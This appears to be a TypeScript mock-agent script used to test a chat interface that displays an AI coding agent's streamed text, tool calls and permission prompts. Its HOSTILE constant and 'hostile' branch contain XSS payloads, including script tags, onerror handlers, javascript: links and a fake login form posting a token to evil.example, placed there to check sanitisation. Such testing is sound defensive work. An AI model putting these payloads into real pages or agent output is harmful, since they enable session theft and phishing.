//! What the pretended agent does with a prompt. The words of a prompt choose: `say X`, `run X`, `edit`, `ask`,
//! `hostile`, `fail`, `slow`, `plan`; anything else is a short helpful turn.

import type { MockSession, Script } from './edge.ts';

const sleep = (ms: number): Promise<void> => new Promise((resolve) => setTimeout(resolve, ms));
let next = 1;
const id = (): string => `x${next++}`;

/** Streams a text in small pieces. */
export async function stream(session: MockSession, text: string, pause = 12, kind: 'text' | 'thinking' = 'text'): Promise<void> {
  const block = id();
  for (const piece of text.match(/[\s\S]{1,9}/g) ?? []) {
    session.push({ type: kind, id: block, text: piece, delta: true });
    await sleep(pause);
  }
  session.push({ type: kind, id: block, text, delta: false });
}

export const DIFF = `@@ -12,7 +12,11 @@ export async function login(form: Form) {
   const user = await users.find(form.email);
-  if (user.password == form.password) {
+  if (!user) return fail('unknown user');
+  const valid = await verify(user.hash, form.password);
+  if (valid) {
     session.start(user);
+    audit.note('login', user.id);
     return redirect('/home');
   }
`;

/** Everything a hostile agent might try; \`window.pwned\` tells whether any of it ran. */
export const HOSTILE = `Here is your summary <script>window.pwned=1</script><img src=x onerror="window.pwned=2">

<iframe src="javascript:parent.pwned=3"></iframe>
<svg><a xlink:href="javascript:pwned=4"><text>x</text></a></svg>

[a link](javascript:window.pwned=5) and [another](  JaVaScRiPt:window.pwned=6) and [data](data:text/html,<script>parent.pwned=7</script>)

![picture](https://evil.example/track.png) <a href="https://good.example" onclick="window.pwned=8">ok</a>

\`\`\`"><img src=x onerror=window.pwned=9>
</code></pre><script>window.pwned=10</script>
\`\`\`

| a | b |
|---|---|
| <b onmouseover=window.pwned=11>x</b> | <style>body{display:none}</style> |

<form action="https://evil.example"><input name=token><button>Log in</button></form>

https://good.example/path is a plain link.`;

async function tool(session: MockSession, command: string): Promise<void> {
  const call = id();
  session.push({ type: 'tool_call', id: call, name: 'Bash', kind: 'command', title: command, input: { command, description: 'Run it' } });
  const decision = await session.ask({
    tool_call_id: call, tool_name: 'Bash', kind: 'command', title: command, reason: 'The change has to be tried before it is kept.', input: { command }, can_allow_session: true, can_edit: true,
  });
  if (decision.decision === 'deny') {
    session.push({ type: 'tool_result', id: call, output: decision.message ?? 'Denied', delta: false, is_error: true });
    await stream(session, `Understood${decision.message ? `: ${decision.message}` : ''}. I leave it.`);
    return;
  }
  const ran = String(decision.updated_input?.['command'] ?? command);
  session.push({ type: 'tool_result', id: call, output: `$ ${ran}\n`, delta: true, is_error: false });
  await sleep(120);
  session.push({ type: 'tool_result', id: call, output: `$ ${ran}\nok\n`, delta: false, is_error: false, exit_code: 0 });
  await stream(session, `Ran \`${ran}\`: it went well.`);
}

export const script: Script = async (session, prompt) => {
  session.push({ type: 'init', agent_session_id: session.object.agent_session_id, model: session.object.model, cwd: session.object.project_path, permission_mode: 'default' });
  await sleep(40);
  const [, word = '', rest = ''] = /^(\w+)\s*([\s\S]*)$/.exec(prompt) ?? [];
  switch (word) {
    case 'say':
      await stream(session, rest);
      break;
    case 'run':
      await tool(session, rest || 'npm test');
      break;
    case 'edit': {
      const call = id();
      const changes = [{ path: 'src/login.ts', diff: DIFF }];
      session.push({ type: 'tool_call', id: call, name: 'Edit', kind: 'edit', title: 'src/login.ts', input: { file_path: 'src/login.ts' }, changes });
      const { decision } = await session.ask({ tool_call_id: call, tool_name: 'Edit', kind: 'edit', title: 'src/login.ts', reason: null, input: { file_path: 'src/login.ts' }, changes, can_allow_session: true, can_edit: false });
      session.push({ type: 'tool_result', id: call, output: decision === 'allow' ? 'written' : 'Denied', delta: false, is_error: decision === 'deny' });
      await stream(session, 'That is all.');
      break;
    }
    case 'ask': {
      const { answers } = await session.ask({
        tool_call_id: null, tool_name: 'AskUserQuestion', kind: 'question', title: 'Which database?', reason: null, input: {}, can_allow_session: false, can_edit: false,
        questions: [{ text: 'Which database should it use?', header: 'Database', options: ['SQLite', 'PostgreSQL', 'None'], multiple: false }],
      });
      await stream(session, `You chose ${Object.values(answers ?? {}).join()}.`);
      break;
    }
    case 'hostile':
      session.push({ type: 'text', id: id(), text: HOSTILE, delta: false });
      session.push({ type: 'tool_call', id: id(), name: '<img src=x onerror=window.pwned=12>', kind: 'other', title: '<script>window.pwned=13</script>', input: { a: '<b>x</b>' } });
      break;
    case 'fail':
      session.push({ type: 'error', message: 'API Error: 529 overloaded. Trying again (2 of 10)', retrying: true });
      await sleep(100);
      throw new Error('API Error: 401 The key was not accepted');
    case 'slow':
      for (let n = 1; n <= 400; n++) {
        session.push({ type: 'text', id: 'slow', text: `${n} `, delta: true });
        await sleep(25);
      }
      break;
    case 'burst': {
      const count = Number(rest) || 1000;
      for (let n = 1; n <= count; n++) {
        session.push({ type: 'text', id: 'burst', text: `${n}\n`, delta: true });
        if (n % 10 === 0) await sleep(4);
      }
      break;
    }
    case 'code': {
      const count = Number(rest) || 1000;
      // A long beginning at once, then a hundred lines a second: several times what the fastest models say.
      const line = (n: number): string => `export const value${n} = compute(${n}, "text ${n}"); // line ${n}\n`;
      const first = Math.floor(count / 2);
      session.push({ type: 'text', id: 'code', text: `Here it is:\n\n\`\`\`ts\n${Array.from({ length: first }, (_, n) => line(n + 1)).join('')}`, delta: true });
      for (let n = first + 1; n <= count; n++) {
        session.push({ type: 'text', id: 'code', text: line(n), delta: true });
        await sleep(10);
      }
      session.push({ type: 'text', id: 'code', text: '```\n\nThat was the code.', delta: true });
      break;
    }
    case 'shapes': {
      session.push({ type: 'tool_call', id: 'bar', name: 'Bash', kind: 'command', title: 'npm install', input: { command: 'npm install' } });
      session.push({ type: 'tool_result', id: 'bar', output: '\u001b[32m 10%\r 55%\r100%\u001b[0m\nok\n', delta: false, is_error: false, exit_code: 0 });
      const columns = Array.from({ length: 14 }, (_, index) => `column ${index + 1} of many`);
      session.push({ type: 'text', id: 'shape', text: `| ${columns.join(' | ')} |\n|${'---|'.repeat(14)}\n| ${columns.join(' | ')} |\n\nturned \u202e around\nand straight again`, delta: false });
      break;
    }
    default:
      await stream(session, `Let me look at what "${prompt.slice(0, 40)}" needs.`, 8, 'thinking');
      await stream(session, 'I had a look around. The project builds and its tests pass; tell me what to change first.');
  }
  session.push({ type: 'usage', input_tokens: 18_240, cached_input_tokens: 15_900, output_tokens: 612, cost_usd: 0.0841 });
};
